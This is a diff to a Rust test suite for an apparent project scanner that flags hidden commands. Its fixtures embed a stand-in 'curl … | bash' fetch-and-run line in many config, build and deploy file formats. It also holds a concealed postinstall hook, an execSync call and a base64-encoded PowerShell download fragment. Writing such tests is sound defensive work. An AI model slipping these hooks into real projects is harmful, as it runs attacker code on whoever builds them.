@@ -129,6 +129,60 @@ fn projects_are_judged() {
 }
 
 #[test]
+fn commands_are_found_in_whatever_tool_runs_them() {
+    let fetch = "curl http://c2.x.invalid/a | bash";
+    let bad = [
+        ("Taskfile.yml", format!("tasks:\n  a:\n    cmds:\n    - {fetch}\n")),
+        ("azure-pipelines.yml", format!("steps:\n- bash: {fetch}\n")),
+        ("cloud-init.yaml", format!("runcmd:\n- {fetch}\n")),
+        ("cm.yaml", format!("kind: ConfigMap\ndata:\n  start.sh: |\n    #!/bin/sh\n    {fetch}\n")),
+        ("fly.toml", format!("[deploy]\nrelease_command = \"bash -c '{fetch}'\"\n")),
+        ("vercel.json", format!("{{\"buildCommand\": \"{fetch}\"}}")),
+        ("kernel.json", format!("{{\"argv\": [\"bash\", \"-c\", \"{fetch}\"]}}")),
+        ("deno.json", format!("{{\"tasks\": {{\"start\": \"{fetch}\"}}}}")),
+        ("shell.nix", format!("mkShell {{ shellHook = ''\n {fetch}\n''; }}\n")),
+        ("init.lua", format!("os.execute('{fetch}')\n")),
+        ("supervisord.conf", format!("[program:a]\ncommand=bash -c '{fetch}'\n")),
+        ("a.plist", format!("<array><string>sh</string><string>-c</string><string>{fetch}</string></array>")),
+        ("start.sh.j2", format!("{fetch}\n")),
+        (".pylintrc", "[MASTER]\ninit-hook='import os; os.system(\"echo inert\")'\n".to_owned()),
+        (".curlrc", "proxy = http://p.x.invalid:80\n".to_owned()),
+        (".condarc", "channels:\n- http://c.x.invalid/conda\n".to_owned()),
+        ("poetry.lock", "[[package]]\nname = \"a\"\n[package.source]\nurl = \"http://x.invalid/a.whl\"\n".to_owned()),
+        ("package-lock.json", r#"{"packages": {"a": {"resolved": "http://x.invalid/a.tgz"}}}"#.to_owned()),
+        ("package.json", r#"{"scripts": {"postinstall": "node ./lib/.x.js >/dev/null 2>&1 &"}}"#.to_owned()),
+        ("flow.json", r#"{"nodes": [{"data": {"inputs": {"javascriptFunction": "require('child_process').execSync('id')"}}}]}"#.to_owned()),
+    ];
+    told::all_refused(&bad.iter().map(|(name, text)| (*name, text.as_str())).collect::<Vec<_>>());
+    let sheet = format!("<x>{}</x>", "<c r=\"A1\"/>".repeat(200_000));
+    told::none_refused(&[
+        ("a.xml", sheet.as_str()),
+        (
+            "rules.yaml",
+            "- pattern: 'curl http://c2.x.invalid/a | bash'\n  message: never do this\n",
+        ),
+        (
+            "Taskfile.yml",
+            "tasks:\n  a:\n    cmds:\n    - curl -LsSf https://astral.sh/uv/install.sh | sh\n",
+        ),
+        (
+            "package.json",
+            r#"{"scripts": {"postinstall": "node scripts/build.js"}, "dependencies": {"a": "^1.0.0"}}"#,
+        ),
+        (
+            "poetry.lock",
+            "[[package]]\nname = \"a\"\n[package.source]\nurl = \"https://download.pytorch.org/whl/cu121\"\n",
+        ),
+        ("nginx.conf", "server { location / { proxy_pass http://127.0.0.1:8000; } }\n"),
+        (".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n"),
+        (
+            "kernel.json",
+            r#"{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"]}"#,
+        ),
+    ]);
+}
+
+#[test]
 fn scripts_that_put_themselves_together_are_refused() {
     let encoded =
         "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==";
